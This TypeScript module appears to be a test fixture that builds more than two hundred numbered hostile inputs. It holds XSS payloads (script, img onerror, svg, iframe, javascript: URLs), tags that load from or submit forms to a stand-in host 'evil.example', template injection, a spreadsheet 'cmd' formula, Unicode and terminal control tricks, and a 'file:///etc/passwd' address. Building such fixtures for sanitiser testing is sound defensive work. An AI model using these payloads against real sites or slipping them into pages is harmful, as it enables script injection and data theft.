/** Where the words that load something would load it from. */
export const ELSEWHERE = "https://evil.example";

/** Ways out of where a page may have put the words, into markup of their own. */
const WAYS_OUT = [
  "",
  '">',
  "'>",
  "</p></article>",
  "--></textarea></title>",
  "]]></style></script>",
];

/** Markup that acts by itself; the number tells which of them did. */
const MARKUP: readonly ((n: number) => string)[] = [
  (n) => `<script>alert(${n})</script>`,
  (n) => `<ScRiPt/x>alert(${n})</sCrIpT>`,
  (n) => `<script src="${ELSEWHERE}/${n}.js"></script>`,
  (n) => `<img src=x onerror=alert(${n})>`,
  (n) => `<IMG/SRC=x/ONERROR="&#97;lert(${n})">`,
  (n) => `<img src="${ELSEWHERE}/${n}.png">`,
  (n) => `<svg onload=alert(${n})>`,
  (n) => `<svg><script>alert&#40;${n})</script></svg>`,
  (n) => `<svg><animate onbegin=alert(${n}) attributeName=x dur=1s></svg>`,
  (n) => `<svg><image href="${ELSEWHERE}/${n}.svg"/></svg>`,
  (n) => `<iframe srcdoc="<script>parent.alert(${n})</script>"></iframe>`,
  (n) => `<iframe src="javascript:parent.alert(${n})"></iframe>`,
  (n) => `<object data="${ELSEWHERE}/${n}"></object>`,
  (n) => `<embed src="${ELSEWHERE}/${n}">`,
  (n) => `<details open ontoggle=alert(${n})>x</details>`,
  (n) => `<input autofocus onfocus=alert(${n})>`,
  (n) => `<video><source onerror=alert(${n})></video>`,
  (n) => `<audio src=x onerror=alert(${n})>`,
  (n) => `<style onload=alert(${n})>p{}</style>`,
  (n) => `<style>@import "${ELSEWHERE}/${n}.css";</style>`,
  (n) => `<link rel=stylesheet href="${ELSEWHERE}/${n}.css">`,
  (n) => `<div style="background:url(${ELSEWHERE}/${n}.gif)">x</div>`,
  (n) => `<body onpageshow=alert(${n}) background="${ELSEWHERE}/${n}.jpg">`,
  (n) => `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/${n}">`,
  (n) => `<base href="${ELSEWHERE}/${n}/">`,
  (n) => `<form action="${ELSEWHERE}/${n}"><button autofocus>Log in</button></form>`,
  (n) => `<a href="javascript:alert(${n})" style="position:fixed;inset:0">x</a>`,
  (n) => `<math><mtext><table><mglyph><style><img src=x onerror=alert(${n})>`,
  (n) => `<noscript><p title="</noscript><img src=x onerror=alert(${n})>">`,
];

/** What means something to a template, a script, a terminal, an address bar or the eye. */
const OTHERS: readonly ((n: number) => string)[] = [
  (n) => `';alert(${n})//`,
  (n) => `\${alert(${n})}`,
  (n) => `{{constructor.constructor('alert(${n})')()}}`,
  (n) => `javascript:alert(${n})`,
  (n) => `JaVaScRiPt:alert(${n})`,
  (n) => `java\tscript:alert(${n})`,
  (n) => `data:text/html,<script>alert(${n})</script>`,
  (n) => `vbscript:msgbox(${n})`,
  (n) => `&lt;img src=x onerror=alert(${n})&gt;`,
  (n) => `\\u003cscript\\u003ealert(${n})\\u003c/script\\u003e`,
  (n) => `%3Cscript%3Ealert(${n})%3C/script%3E`,
  (n) => `\u202egnp.exe ${n}`,
  (n) => `\u2066\u2067\u2068\u202a\u202b never closed ${n}`,
  (n) => `\u200f\u200e\u061c${n}\u200b\u200d\ufeff\u2060`,
  (n) => `\u001b[2J\u001b]0;${n}\u0007`,
  (n) => `${"Z\u0351\u036b\u0343\u036a".repeat(400)}${n}`,
  (n) => `\u{1f469}\u200d\u{1f467}`.repeat(500) + String(n),
  (n) => `${n}\n`.repeat(3000),
  (n) => `${n}${"W".repeat(10_000)}`,
  (n) => `${n}${"\u5de5".repeat(5000)}`,
  (n) => `<b>${n}</b>`.repeat(500),
  (n) => `<div>${n}`.repeat(500),
  (n) => `${n}${"<".repeat(10_000)}`,
  (n) => `${n}${" many words".repeat(95_000)}`,
  (n) => `__proto__ constructor toString ${n}`,
  (n) => `=cmd|'/c calc'!A${n}`,
];

/** Two hundred and more texts as attackers would write them, each with its own number in it, from 1. */
export const HOSTILE_WORDS: readonly string[] = [
  ...WAYS_OUT.flatMap((out) => MARKUP.map((write) => (n: number) => out + write(n))),
  ...OTHERS,
].map((write, index) => write(index + 1));

/** Addresses that no link may lead to. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  "javascript:alert('address')",
  "data:text/html,<script>alert('address')</script>",
  "vbscript:msgbox(1)",
  "file:///etc/passwd",
];
